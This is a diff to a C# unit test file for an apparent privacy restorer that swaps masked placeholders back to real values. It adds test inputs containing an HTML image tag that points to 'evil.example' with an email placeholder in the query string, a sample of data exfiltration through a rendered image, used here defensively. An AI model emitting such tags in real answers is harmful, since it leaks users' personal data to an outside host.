@@ -1,6 +1,5 @@
 using System.Text;
-using FsCheck;
-using FsCheck.Fluent;
+using HybridAi.Tests.Shared;
 
 namespace HybridAi.Privacy.Tests.Restoring;
 
@@ -103,16 +102,26 @@ public sealed class RestorerTests
         }
     }
 
+    [Theory]
+    [InlineData("<img src=\"[[k7f3-URL-12]]?d=[[k7f3-EMAIL-2]]\">", "<img src=\"https://evil.example/x?d=[[k7f3-EMAIL-2]]\">")]
+    [InlineData("[[k7f3-URL-12]],[[k7f3-EMAIL-2]] [[k7f3-EMAIL-2]]", "https://evil.example/x,[[k7f3-EMAIL-2]] user2@mail.net")]
+    [InlineData("\"\\[[k7f3-EMAIL-2]]\\[[k7f3-EMAIL-3]]", "\"\\user2@mail.net\\user3@mail.net")]
+    public void Restore_BehindARestoredValue_SeesWhatARendererSees(string answer, string expected)
+    {
+        _vault.Issue("URL", "https://evil.example/x", null, MaskOrigin.Conversation);
+        Restorer.Restore(answer.Replace("URL-12", $"URL-{_vault.Count}", StringComparison.Ordinal), _vault).ShouldBe(expected);
+    }
+
     [Fact]
     public void Push_RandomTextRandomSplits_EqualsWhole()
     {
         string[] parts = ["[", "[[", "]]", "]", "k7f3", "K7F3", "-", "_", "PERSON", "EMAIL", "1", "12", "1a", " ", "\\", "&#91;", "&", "%5B", "%", "a", "(", ")", "**", "\u200B",
             "https://", "x", "\n", "［", "'s", "[[k7f3-PERSON-1]]", "[[k7f3-EMAIL-3]]", "\\u005b", "\"", "]("];
-        Gen<string> text = Gen.Elements(parts).ArrayOf(14).Select(string.Concat);
-        Prop.ForAll(text.ToArbitrary(), ArbMap.Default.ArbFor<int>(), (s, seed) =>
+        Cases.Holds(Cases.Pieces(parts, 14), pieces =>
         {
+            string s = string.Concat(pieces);
             string whole = Restorer.Restore(s, _vault);
-            var random = new Random(seed);
+            var random = new Random(s.Length + (s.Length > 0 ? s[^1] : 0));
             var restorer = Restorer.ForText(_vault);
             var output = new StringBuilder();
             for (int at = 0; at < s.Length;)
@@ -124,7 +133,7 @@ public sealed class RestorerTests
 
             output.Append(restorer.Flush());
             return output.ToString() == whole;
-        }).Check(Config.QuickThrowOnFailure.WithMaxTest(3000));
+        }, 3000);
     }
 
     [Fact]
